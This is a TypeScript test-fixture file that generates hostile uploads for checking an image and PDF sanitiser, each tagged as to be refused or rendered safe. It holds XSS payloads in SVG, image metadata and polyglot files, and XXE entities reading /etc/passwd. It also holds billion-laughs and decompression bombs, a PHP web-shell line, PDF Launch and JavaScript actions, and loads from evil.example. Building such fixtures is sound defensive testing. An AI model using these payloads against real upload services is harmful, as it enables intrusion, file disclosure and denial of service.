/** Files made to harm: each has to be refused, or to come out as nothing but a picture. */
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

export const MARK = 'alert(document.domain)';
const SCRIPT = `<script>${MARK}</script>`;
const SVG = 'xmlns="http://www.w3.org/2000/svg"';
const BOX = `${SVG} viewBox="0 0 10 10"`;
export const svg = (inside: string, attributes = ''): Buffer =>
  Buffer.from(`<svg ${BOX} ${attributes}>${inside}<rect width="9" height="9"/></svg>`);

const pixels = (width = 16, height = 16) => sharp({ create: { width, height, channels: 3, background: '#00ff88' } });
export const png = (width?: number, height?: number): Promise<Buffer> => pixels(width, height).png().toBuffer();
export const jpg = (): Promise<Buffer> => pixels().jpeg().toBuffer();
export const webp = (): Promise<Buffer> => pixels().webp().toBuffer();

function chunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const tail = Buffer.alloc(4);
  tail.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])), 0);
  return Buffer.concat([head, data, tail]);
}
const PNG_SIGNATURE = Buffer.from('89504e470d0a1a0a', 'hex');
/** Of any dimensions, with so many bytes of zeros as its pixels. */
function rawPng(width: number, height: number, bytes: number, extra: Buffer[] = []): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    PNG_SIGNATURE,
    chunk('IHDR', header),
    ...extra,
    chunk('IDAT', deflateSync(Buffer.alloc(bytes))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}
const insertChunk = (file: Buffer, extra: Buffer): Buffer => Buffer.concat([file.subarray(0, 33), extra, file.subarray(33)]);

export const pdf = (objects: string, { head = '%PDF-1.7\n', tail = '%%EOF\n' } = {}): Buffer =>
  Buffer.from(
    `${head}1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n${objects}\ntrailer << /Root 1 0 R >>\n${tail}`,
    'latin1',
  );
const folded = (text: string, entries = '/Type /ObjStm /N 1 /First 4'): string => {
  const bytes = deflateSync(Buffer.from(text));
  return `3 0 obj << ${entries} /Filter /FlateDecode /Length ${bytes.length} >> stream\n${bytes.toString('latin1')}\nendstream endobj`;
};

type Hostile = { name: string; bytes: () => Buffer | Promise<Buffer>; fate: 'refused' | 'safe' };

const PICTURES: Hostile[] = [
  { name: 'PNG with HTML after its end', fate: 'safe', bytes: async () => Buffer.concat([await png(), Buffer.from(`<html>${SCRIPT}`)]) },
  {
    name: 'PNG with a zip archive after its end',
    fate: 'safe',
    bytes: async () => Buffer.concat([await png(), Buffer.from(`PK\u0003\u0004${MARK}`)]),
  },
  {
    name: 'PNG with a script in a text chunk',
    fate: 'safe',
    bytes: async () => insertChunk(await png(), chunk('tEXt', Buffer.from(`Comment\0${SCRIPT}`))),
  },
  {
    name: 'PNG with a script in an unknown chunk',
    fate: 'safe',
    bytes: async () => insertChunk(await png(), chunk('evIl', Buffer.from(SCRIPT))),
  },
  {
    name: 'PNG with a text chunk that unfolds to 50 MB',
    fate: 'safe',
    bytes: async () =>
      insertChunk(await png(), chunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(Buffer.alloc(50_000_000))]))),
  },
  { name: 'PNG of 60,000 by 60,000 pixels in 3 KB', fate: 'refused', bytes: () => rawPng(60_000, 60_000, 1_000_000) },
  { name: 'PNG of 4,294,967,295 pixels a side', fate: 'refused', bytes: () => rawPng(0xff_ff_ff_ff, 0xff_ff_ff_ff, 10) },
  { name: 'PNG of no pixels', fate: 'refused', bytes: () => rawPng(0, 0, 10) },
  { name: 'PNG one pixel too wide', fate: 'refused', bytes: () => png(4_097, 1) },
  { name: 'PNG whose pixels are missing', fate: 'refused', bytes: () => rawPng(64, 64, 100) },
  { name: 'PNG cut in the middle', fate: 'refused', bytes: async () => (await png(200, 200)).subarray(0, 300) },
  { name: 'PNG that is only its signature', fate: 'refused', bytes: () => PNG_SIGNATURE },
  {
    name: 'JPEG with PHP in its metadata',
    fate: 'safe',
    bytes: () =>
      pixels()
        .jpeg()
        .withExif({ IFD0: { Copyright: `<?php system("${MARK}") ?>` } })
        .toBuffer(),
  },
  {
    name: 'JPEG with the place it was taken',
    fate: 'safe',
    bytes: () =>
      pixels()
        .jpeg()
        .withExif({ IFD3: { GPSLatitude: '51/1 30/1 0/1', GPSMapDatum: MARK } })
        .toBuffer(),
  },
  {
    name: 'JPEG with a script in a comment',
    fate: 'safe',
    bytes: async () => {
      const file = await jpg();
      const text = Buffer.from(SCRIPT);
      return Buffer.concat([file.subarray(0, 2), Buffer.from([0xff, 0xfe, 0, text.length + 2]), text, file.subarray(2)]);
    },
  },
  {
    name: 'JPEG that is JavaScript as well',
    fate: 'refused',
    bytes: () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x2f, 0x2a]), Buffer.from(`*/=1;${MARK}/*`)]),
  },
  { name: 'JPEG cut in the middle', fate: 'refused', bytes: async () => (await pixels(300, 300).jpeg().toBuffer()).subarray(0, 400) },
  {
    name: 'WebP with a script in its metadata',
    fate: 'safe',
    bytes: () => pixels().webp().withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/">${SCRIPT}</x:xmpmeta>`).toBuffer(),
  },
  { name: 'WebP with HTML after its end', fate: 'safe', bytes: async () => Buffer.concat([await webp(), Buffer.from(SCRIPT)]) },
  { name: 'GIF', fate: 'refused', bytes: () => Buffer.from(`GIF89a/*${MARK}*/`) },
  { name: 'GIF that is JavaScript as well', fate: 'refused', bytes: () => Buffer.from(`GIF89a=1;${MARK}`) },
  { name: 'TIFF, whose decoder nobody needs', fate: 'refused', bytes: () => pixels().tiff().toBuffer() },
  { name: 'Windows icon', fate: 'refused', bytes: () => Buffer.from('0000010001001010000001002000680400001600000028000000', 'hex') },
];

const TEXTS: Hostile[] = [
  { name: 'empty', fate: 'refused', bytes: () => Buffer.alloc(0) },
  { name: 'one zero byte', fate: 'refused', bytes: () => Buffer.alloc(1) },
  { name: 'HTML', fate: 'refused', bytes: () => Buffer.from(`<!doctype html><html>${SCRIPT}</html>`) },
  {
    name: 'HTML around an svg',
    fate: 'refused',
    bytes: () => Buffer.from(`<!doctype html><html><body><svg ${BOX}/>${SCRIPT}</body></html>`),
  },
  { name: 'JavaScript', fate: 'refused', bytes: () => Buffer.from(MARK) },
  { name: 'a Linux program', fate: 'refused', bytes: () => Buffer.from('7f454c4602010100000000000000000003003e00', 'hex') },
  { name: 'a Windows program', fate: 'refused', bytes: () => Buffer.from(`MZ${'\0'.repeat(100)}`) },
  { name: 'a zip archive', fate: 'refused', bytes: () => Buffer.from('504b0304140000000000', 'hex') },
  { name: 'PHP', fate: 'refused', bytes: () => Buffer.from('<?php system($_GET[0]); ?>') },
];

const VECTORS: Hostile[] = [
  { name: 'a script element', fate: 'safe', bytes: () => svg(SCRIPT) },
  { name: 'a script element with an address', fate: 'safe', bytes: () => svg('<script href="https://evil.example/a.js"/>') },
  { name: 'a script in CDATA', fate: 'safe', bytes: () => svg(`<script><![CDATA[${MARK}]]></script>`) },
  {
    name: 'a script of the HTML namespace',
    fate: 'safe',
    bytes: () => svg(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">${MARK}</h:script>`),
  },
  {
    name: 'a script under another prefix',
    fate: 'safe',
    bytes: () => svg(`<s:script xmlns:s="http://www.w3.org/2000/svg">${MARK}</s:script>`),
  },
  { name: 'a script in a title', fate: 'safe', bytes: () => svg(`<title><script>${MARK}</script></title>`) },
  { name: 'an onload of the root', fate: 'safe', bytes: () => svg('', `onload="${MARK}"`) },
  {
    name: 'an onerror, an onclick and an onbegin',
    fate: 'safe',
    bytes: () => svg(`<g onclick="${MARK}" onerror="${MARK}"><animate onbegin="${MARK}" attributeName="x"/></g>`),
  },
  { name: 'an ONLOAD in capitals', fate: 'safe', bytes: () => svg('', `ONLOAD="${MARK}" oNcLiCk="${MARK}"`) },
  { name: 'a javascript link', fate: 'safe', bytes: () => svg(`<a href="javascript:${MARK}"><text>x</text></a>`) },
  {
    name: 'a javascript link spelled in entities',
    fate: 'safe',
    bytes: () => svg(`<a href="&#106;avascript&#58;${MARK}"><text>x</text></a>`),
  },
  {
    name: 'an xlink to a script',
    fate: 'safe',
    bytes: () => svg(`<a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:${MARK}"><text>x</text></a>`),
  },
  {
    name: 'an animated link',
    fate: 'safe',
    bytes: () => svg(`<a id="a"><text>x</text></a><set href="#a" attributeName="href" to="javascript:${MARK}"/>`),
  },
  { name: 'an animation of values', fate: 'safe', bytes: () => svg(`<animate attributeName="href" values="javascript:${MARK}"/>`) },
  {
    name: 'a foreignObject with HTML',
    fate: 'safe',
    bytes: () => svg(`<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</body></foreignObject>`),
  },
  {
    name: 'a foreignObject with a frame',
    fate: 'safe',
    bytes: () => svg('<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>'),
  },
  { name: 'a style that imports', fate: 'safe', bytes: () => svg('<style>@import url(https://evil.example/a.css);</style>') },
  {
    name: 'a style that loads a font',
    fate: 'safe',
    bytes: () => svg('<style>@font-face{font-family:a;src:url(https://evil.example/f)}</style>'),
  },
  {
    name: 'a style that loads a picture, in escapes',
    fate: 'safe',
    bytes: () => svg('<style>rect{fill:\\75rl(https://evil.example/a)}</style>'),
  },
  { name: 'a style attribute that loads', fate: 'safe', bytes: () => svg('<g style="background:url(https://evil.example/a)"/>') },
  { name: 'a fill from elsewhere', fate: 'safe', bytes: () => svg('<rect fill="url(https://evil.example/a#b)" width="1" height="1"/>') },
  {
    name: 'a picture from elsewhere',
    fate: 'safe',
    bytes: () => svg('<image href="https://evil.example/pixel.png" width="1" height="1"/>'),
  },
  { name: 'a picture from the file system', fate: 'safe', bytes: () => svg('<image href="file:///etc/passwd" width="1" height="1"/>') },
  {
    name: 'a picture in a data address',
    fate: 'safe',
    bytes: () => svg(`<image href="data:image/svg+xml;base64,${svg(SCRIPT).toString('base64')}" width="1" height="1"/>`),
  },
  { name: 'a use of another document', fate: 'safe', bytes: () => svg('<use href="https://evil.example/a.svg#x"/>') },
  {
    name: 'a use in a data address',
    fate: 'safe',
    bytes: () => svg(`<use href="data:image/svg+xml;base64,${svg(SCRIPT, 'id="x"').toString('base64')}#x"/>`),
  },
  {
    name: 'a picture that repeats itself a billion times',
    fate: 'safe',
    bytes: () =>
      svg(
        `<defs><g id="a0"><rect width="1" height="1"/></g>${Array.from({ length: 9 }, (_, n) => `<g id="a${n + 1}">${`<use href="#a${n}"/>`.repeat(10)}</g>`).join('')}</defs><use href="#a9"/>`,
      ),
  },
  { name: 'a filter that loads', fate: 'safe', bytes: () => svg('<filter id="f"><feImage href="https://evil.example/a"/></filter>') },
  {
    name: 'an embed, an object, a video and an audio',
    fate: 'safe',
    bytes: () =>
      svg(
        '<embed src="https://evil.example"/><object data="https://evil.example"/><video src="https://evil.example"/><audio src="https://evil.example"/>',
      ),
  },
  {
    name: 'a handler element',
    fate: 'safe',
    bytes: () => svg(`<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${MARK}</handler>`),
  },
  {
    name: 'a stylesheet before the root',
    fate: 'safe',
    bytes: () => Buffer.from(`<?xml-stylesheet href="https://evil.example/a.css"?><svg ${BOX}/>`),
  },
  { name: 'a comment that breaks out', fate: 'safe', bytes: () => svg(`<!--><img src=x onerror=${MARK}>-->`) },
  { name: 'a base address', fate: 'safe', bytes: () => svg('<g xml:base="https://evil.example/"><path d="M0 0"/></g>') },
  {
    name: 'an external entity',
    fate: 'refused',
    bytes: () => Buffer.from(`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg ${BOX}><text>&x;</text></svg>`),
  },
  {
    name: 'an external parameter entity',
    fate: 'refused',
    bytes: () => Buffer.from(`<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]><svg ${BOX}/>`),
  },
  {
    name: 'a billion laughs',
    fate: 'refused',
    bytes: () =>
      Buffer.from(
        `<!DOCTYPE svg [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, n) => `<!ENTITY a${n} "${(n === 0 ? '&a;' : `&a${n - 1};`).repeat(10)}">`).join('')}]><svg ${BOX}><text>&a8;</text></svg>`,
      ),
  },
  { name: 'UTF-16', fate: 'refused', bytes: () => Buffer.from(`\ufeff<svg ${BOX}>${SCRIPT}</svg>`, 'utf16le') },
  {
    name: 'UTF-7 behind a declaration',
    fate: 'refused',
    bytes: () => Buffer.from(`<?xml version="1.0" encoding="UTF-7"?>+ADw-svg ${BOX}+AD4-`),
  },
  { name: 'bytes that are no UTF-8', fate: 'refused', bytes: () => Buffer.concat([svg(''), Buffer.from([0xc3, 0x28])]) },
  { name: 'markup that is not well-formed', fate: 'refused', bytes: () => Buffer.from(`<svg ${BOX}><rect></svg>`) },
  {
    name: 'another root',
    fate: 'refused',
    bytes: () => Buffer.from(`<html xmlns="http://www.w3.org/1999/xhtml"><svg ${BOX}/>${SCRIPT}</html>`),
  },
  { name: 'an svg of no namespace', fate: 'refused', bytes: () => Buffer.from(`<svg viewBox="0 0 1 1">${SCRIPT}</svg>`) },
  { name: 'a size of a billion', fate: 'refused', bytes: () => Buffer.from(`<svg ${SVG} width="1000000000" height="1000000000"/>`) },
  { name: 'no size', fate: 'refused', bytes: () => Buffer.from(`<svg ${SVG}/>`) },
  { name: 'ten thousand elements', fate: 'refused', bytes: () => svg('<g/>'.repeat(10_000)) },
  { name: 'a hundred thousand levels', fate: 'refused', bytes: () => svg('<g>'.repeat(100_000) + '</g>'.repeat(100_000)) },
  { name: 'two megabytes of text', fate: 'refused', bytes: () => svg(`<text>${'x'.repeat(2_000_000)}</text>`) },
];

const PAPERS: Hostile[] = [
  { name: 'a PDF that runs JavaScript', fate: 'refused', bytes: () => pdf(`3 0 obj << /S /JavaScript /JS (${MARK}) >> endobj`) },
  { name: 'a PDF that runs JavaScript by a name in escapes', fate: 'refused', bytes: () => pdf('3 0 obj << /S /J#61vaScript >> endobj') },
  { name: 'a PDF that hides JavaScript in a folded stream', fate: 'refused', bytes: () => pdf(folded('3 0 << /S /JavaScript >>')) },
  {
    name: 'a PDF that folds objects in another way',
    fate: 'refused',
    bytes: () => pdf('3 0 obj << /Type /ObjStm /Filter /LZWDecode >> stream\nxx\nendstream endobj'),
  },
  { name: 'a PDF that unfolds without end', fate: 'refused', bytes: () => pdf(folded('0'.repeat(60_000_000))) },
  { name: 'a PDF that starts a program', fate: 'refused', bytes: () => pdf('3 0 obj << /S /Launch /F (cmd.exe) >> endobj') },
  { name: 'a PDF that carries a file', fate: 'refused', bytes: () => pdf('3 0 obj << /Names << /EmbeddedFiles 4 0 R >> >> endobj') },
  { name: 'a PDF that sends a form', fate: 'refused', bytes: () => pdf('3 0 obj << /S /SubmitForm /F (https://evil.example) >> endobj') },
  { name: 'a PDF that acts when it is opened', fate: 'refused', bytes: () => pdf('3 0 obj << /AA << /O 4 0 R >> >> endobj') },
  { name: 'an encrypted PDF, which cannot be looked into', fate: 'refused', bytes: () => pdf('3 0 obj << /Encrypt 9 0 R >> endobj') },
  { name: 'HTML before a PDF', fate: 'refused', bytes: () => pdf('', { head: `<html>${SCRIPT}%PDF-1.7\n` }) },
  {
    name: 'a PDF with an archive after its end',
    fate: 'refused',
    bytes: () => pdf('', { tail: `%%EOF\nPK\u0003\u0004${'x'.repeat(2_000)}` }),
  },
  { name: 'a PDF without an end', fate: 'refused', bytes: () => pdf('', { tail: '' }) },
];

export const HOSTILE: readonly Hostile[] = [
  ...PICTURES,
  ...TEXTS,
  ...VECTORS.map((one) => ({ ...one, name: `SVG: ${one.name}` })),
  ...PAPERS,
];
